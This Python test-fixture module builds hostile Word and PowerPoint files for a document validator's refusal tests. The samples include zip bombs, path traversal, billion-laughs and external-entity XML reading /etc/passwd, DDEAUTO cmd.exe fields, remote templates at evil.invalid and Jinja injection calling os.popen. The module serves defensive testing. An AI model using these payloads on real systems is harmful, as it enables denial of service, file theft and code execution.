"""Templates that mean harm, each built here from a harmless one: nothing of the kind lies in the repository."""

from __future__ import annotations

import functools
import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

_PR = "http://schemas.openxmlformats.org/package/2006/relationships"
_OR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
_MASTER = "ppt/slideMasters/slideMaster1.xml"
_DOCUMENT = "word/document.xml"
_TYPES = "[Content_Types].xml"
_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9))
    + b"]>"
)


@functools.cache
def deck_parts() -> Mapping[str, bytes]:
    """The parts of python-pptx's default presentation."""
    from pptx import Presentation

    buffer = io.BytesIO()
    Presentation().save(buffer)
    return _read(buffer.getvalue())


@functools.cache
def plan_parts() -> Mapping[str, bytes]:
    """The parts of python-docx's default document."""
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return _read(buffer.getvalue())


def _read(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    """``parts`` as a zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@dataclass(frozen=True)
class Hostile:
    """A file and the key of the refusal; a key that ends in ``_removed`` means made harmless and told."""

    file: str
    key: str
    build: Callable[[], bytes]


def deck_with(change: Mapping[str, bytes], **replaced: tuple[bytes, bytes]) -> bytes:
    parts = dict(deck_parts()) | dict(change)
    for name, (old, new) in replaced.items():
        place = {"types": _TYPES, "master": _MASTER, "master_rels": _MASTER_RELS}[name]
        assert old in parts[place]
        parts[place] = parts[place].replace(old, new, 1)
    return packed(parts)


def plan_with(change: Mapping[str, bytes]) -> bytes:
    return packed(dict(plan_parts()) | dict(change))


def relationship(kind: str, target: str, outside: bool = True, identity: str = "rIdEvil") -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{identity}" Type="{_OR}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()


def _master_relation(kind: str, target: str, outside: bool = True, **parts: bytes) -> bytes:
    added = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return deck_with(added, master_rels=(b"</Relationships>", relationship(kind, target, outside)))


def _document_relation(kind: str, target: str, outside: bool = True) -> bytes:
    rels = plan_parts()["word/_rels/document.xml.rels"]
    return plan_with(
        {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", relationship(kind, target, outside))}
    )


def body_with(xml: str) -> bytes:
    body = plan_parts()[_DOCUMENT]
    at = body.index(b"<w:body>") + len(b"<w:body>")
    return plan_with({_DOCUMENT: body[:at] + xml.encode() + body[at:]})


def _anchor(text: str) -> bytes:
    return body_with(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")


def _doctype(part: bytes, declared: bytes, inside: bytes = b"") -> bytes:
    head, _, rest = part.partition(b"?>")
    return head + b"?>" + declared + rest.replace(b"<w:body>", b"<w:body>" + inside, 1)


def _with_entry(name: str, content: bytes = b"x", attributes: int = 0, flags: int = 0, times: int = 1) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for part, data in deck_parts().items():
            archive.writestr(part, data)
        for _ in range(times):
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = attributes
            archive.writestr(entry, content)
    packed_ = buffer.getvalue()
    if flags:
        at = packed_.rindex(b"PK\x01\x02")
        packed_ = packed_[: at + 8] + struct.pack("<H", flags) + packed_[at + 10 :]
    return packed_


def _many() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(30_000):
            archive.writestr(f"ppt/media/{number}.bin", b"")
    return buffer.getvalue()


def _lying() -> bytes:
    """A member that unpacks to far more than the directory says."""
    content = _with_entry("ppt/media/image99.bin", bytes(150_000_000))
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<L", 1000) + content[at + 28 :]


def _macro() -> bytes:
    types = deck_parts()[_TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )
    return deck_with({_TYPES: types, "ppt/vbaProject.bin": b"x"})


def _field(code: str) -> bytes:
    halves = code[:3], code[3:]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{half}</w:instrText></w:r>' for half in halves)
    return body_with(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _linked_picture() -> bytes:
    picture = (
        b'<p:pic><p:nvPicPr><p:cNvPr id="900" name="Beacon"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        b'<a:blip r:link="rIdEvil"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
        b'<a:off x="0" y="0"/><a:ext cx="9" cy="9"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
        b"</p:pic></p:spTree>"
    )
    relation = relationship("image", "https://tracker.invalid/beacon.png")
    return deck_with({}, master=(b"</p:spTree>", picture), master_rels=(b"</Relationships>", relation))


def _object() -> bytes:
    frame = (
        b'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="900" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
        b'</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></p:xfrm><a:graphic>'
        b'<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        b'<p:oleObj name="x" r:id="rIdEvil" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic>'
        b"</p:graphicFrame></p:spTree>"
    )
    relation = relationship("oleObject", "../embeddings/oleObject1.bin", outside=False)
    types = (b"<Default ", b'<Default Extension="bin" ContentType="application/octet-stream"/><Default ')
    parts = {"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 something"}
    if b'"bin"' in deck_parts()[_TYPES]:
        types = (b"<Default ", b"<Default ")
    return deck_with(parts, master=(b"</p:spTree>", frame), master_rels=(b"</Relationships>", relation), types=types)


def _settings(tag: str) -> bytes:
    settings = plan_parts()["word/settings.xml"]
    at = settings.index(b"<w:", settings.index(b"<w:settings") + 5)
    rels = f'<Relationships xmlns="{_PR}">'.encode() + relationship(tag, "https://evil.invalid/house.dotm")
    element = f'<w:{tag} r:id="rIdEvil" xmlns:r="{_OR}"/>'.encode()
    changed = settings[:at] + element + settings[at:]
    return plan_with({"word/settings.xml": changed, "word/_rels/settings.xml.rels": rels})


_SYMLINK = 0o120777 << 16
_ENTITY_FILE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_ENTITY_WEB = b'<!DOCTYPE w SYSTEM "https://evil.invalid/x.dtd">'


def _document(declared: bytes, inside: bytes) -> bytes:
    return plan_with({_DOCUMENT: _doctype(plan_parts()[_DOCUMENT], declared, inside)})


def theme_with(content: bytes) -> bytes:
    return deck_with({"ppt/theme/theme1.xml": content})


HOSTILE: dict[str, Hostile] = {
    # the archive
    "bomb": Hostile("x.pptx", "zip_bomb", lambda: _with_entry("ppt/media/image9.png", bytes(80_000_000))),
    "bomb with a lie": Hostile("x.pptx", "damaged", _lying),
    "bomb in a workbook": Hostile(
        "x.pptx",
        "inner_package",
        lambda: _with_entry("ppt/embeddings/x.xlsx", packed({"xl/a.xml": bytes(7_000_000)})),
    ),
    "endless directory": Hostile("x.pptx", "too_many_members", _many),
    "path traversal": Hostile("x.pptx", "path_outside", lambda: _with_entry("../../../../tmp/evil.xml")),
    "absolute path": Hostile("x.pptx", "path_outside", lambda: _with_entry("/etc/cron.d/evil")),
    "drive letter": Hostile("x.pptx", "path_outside", lambda: _with_entry("C:/Windows/evil.xml")),
    "part twice": Hostile("x.pptx", "same_part_twice", lambda: _with_entry(_MASTER, b"<x/>")),
    "part twice by case": Hostile("x.pptx", "same_part_twice", lambda: _with_entry(_MASTER.upper(), b"<x/>")),
    "symbolic link": Hostile("x.pptx", "symbolic_link", lambda: _with_entry("ppt/x", b"/etc/passwd", _SYMLINK)),
    "encrypted member": Hostile("x.pptx", "encrypted", lambda: _with_entry("ppt/x.bin", b"xx", flags=1)),
    "truncated": Hostile("x.pptx", "damaged", lambda: deck_with({})[:-900]),
    "flipped bytes": Hostile("x.pptx", "damaged", lambda: _flipped()),
    "old binary": Hostile("x.pptx", "old_or_encrypted", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096)),
    "no package": Hostile("x.docx", "no_package", lambda: b"%PDF-1.7 nothing else"),
    "empty file": Hostile("x.docx", "no_package", lambda: b""),
    # markup
    "billion laughs": Hostile("x.docx", "document_type", lambda: _document(_LAUGHS, b"<w:p>&j;</w:p>")),
    "file entity": Hostile("x.docx", "document_type", lambda: _document(_ENTITY_FILE, b"<w:p>&x;</w:p>")),
    "remote document type": Hostile("x.docx", "document_type", lambda: _document(_ENTITY_WEB, b"")),
    "entity in UTF-16": Hostile(
        "x.pptx",
        "document_type",
        lambda: theme_with(
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")
        ),
    ),
    "entity in relationships": Hostile(
        "x.pptx",
        "document_type",
        lambda: deck_with({"_rels/.rels": b'<!DOCTYPE a [<!ENTITY b "c">]>' + deck_parts()["_rels/.rels"][55:]}),
    ),
    "deep nesting": Hostile("x.pptx", "too_deep", lambda: theme_with(b"<a>" * 5_000 + b"</a>" * 5_000)),
    "a million elements": Hostile("x.pptx", "too_many_elements", lambda: theme_with(b"<a>" + _noise() + b"</a>")),
    "huge part": Hostile("x.pptx", "part_too_big", lambda: theme_with(b"<a>" + _noise() * 2 + b"</a>")),
    "broken markup": Hostile("x.pptx", "bad_markup", lambda: theme_with(b"<a><b></a>")),
    # code
    "macros": Hostile("x.pptx", "macros", _macro),
    "macros without a type": Hostile("x.docx", "macros", lambda: plan_with({"word/vbaProject.bin": b"x"})),
    "control": Hostile("x.docx", "active_content", lambda: _document_relation("control", "x.xml", outside=False)),
    "imported page": Hostile("x.docx", "active_content", lambda: _document_relation("aFChunk", "x.htm", False)),
    "program": Hostile("x.pptx", "program", lambda: _with_entry("ppt/embeddings/setup.exe", b"x")),
    "program in disguise": Hostile("x.pptx", "program", lambda: _with_entry("ppt/media/logo.png", b"MZ\x90\x00rest")),
    "button": Hostile(
        "x.pptx",
        "action",
        lambda: deck_with({}, master=(b'<p:cNvPr id="2"', b'<p:cNvPr descr="ppaction://program?x" id="2"')),
    ),
    "DDE field": Hostile("x.docx", "field_code", lambda: _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "fetching field": Hostile("x.docx", "field_code", lambda: _field('INCLUDEPICTURE "https://evil.invalid/x"')),
    # outside
    "linked object": Hostile("x.pptx", "outside", lambda: _master_relation("oleObject", "file:///x.xlsx")),
    "linked video": Hostile("x.pptx", "outside", lambda: _master_relation("video", "https://evil.invalid/x.mp4")),
    "part that is missing": Hostile("x.pptx", "missing_part", lambda: _master_relation("image", "../no.png", False)),
    "part outside the package": Hostile(
        "x.pptx", "missing_part", lambda: _master_relation("image", "../../../../../etc/passwd", False)
    ),
    "web bug": Hostile("x.pptx", "link_removed", _linked_picture),
    "attached template": Hostile("x.docx", "link_removed", lambda: _settings("attachedTemplate")),
    "link in the text": Hostile("x.docx", "link_removed", lambda: _document_relation("hyperlink", "https://a.invalid")),
    "embedded object": Hostile("x.pptx", "object_removed", _object),
    # content types
    "no content types": Hostile("x.pptx", "no_content_types", lambda: packed({"ppt/presentation.xml": b"<a/>"})),
    "a deck called plan": Hostile("x.docx", "wrong_kind", lambda: packed(deck_parts())),
    "a plan called deck": Hostile("x.pptx", "wrong_kind", lambda: packed(plan_parts())),
    "no main part": Hostile(
        "x.pptx", "wrong_kind", lambda: deck_with({"_rels/.rels": f'<Relationships xmlns="{_PR}"/>'.encode()})
    ),
    # text that computes
    "attribute walk": Hostile("x.docx", "anchor_syntax", lambda: _anchor("{{ jbp.__class__.__mro__ }}")),
    "repetition": Hostile("x.docx", "anchor_syntax", lambda: _anchor("{{ 'x' * 10**8 }}")),
    "endless loop": Hostile(
        "x.docx", "anchor_syntax", lambda: _anchor("{% for a in range(9**9) %}{{ a }}{% endfor %}")
    ),
    "call": Hostile("x.docx", "anchor_syntax", lambda: _anchor("{{ cycler.__init__.__globals__.os.popen('id') }}")),
    "filter with arguments": Hostile(
        "x.docx", "anchor_syntax", lambda: _anchor("{{ jbp.plan.title | replace('a', 'b' * 9) }}")
    ),
    "included file": Hostile("x.docx", "anchor_syntax", lambda: _anchor("{% include '/etc/passwd' %}")),
}


def _noise() -> bytes:
    return b"".join(b'<b c="%d"/>' % number for number in range(450_000))


def _flipped() -> bytes:
    content = bytearray(deck_with({}))
    for at in range(2_000, 2_200):
        content[at] ^= 0xFF
    return bytes(content)
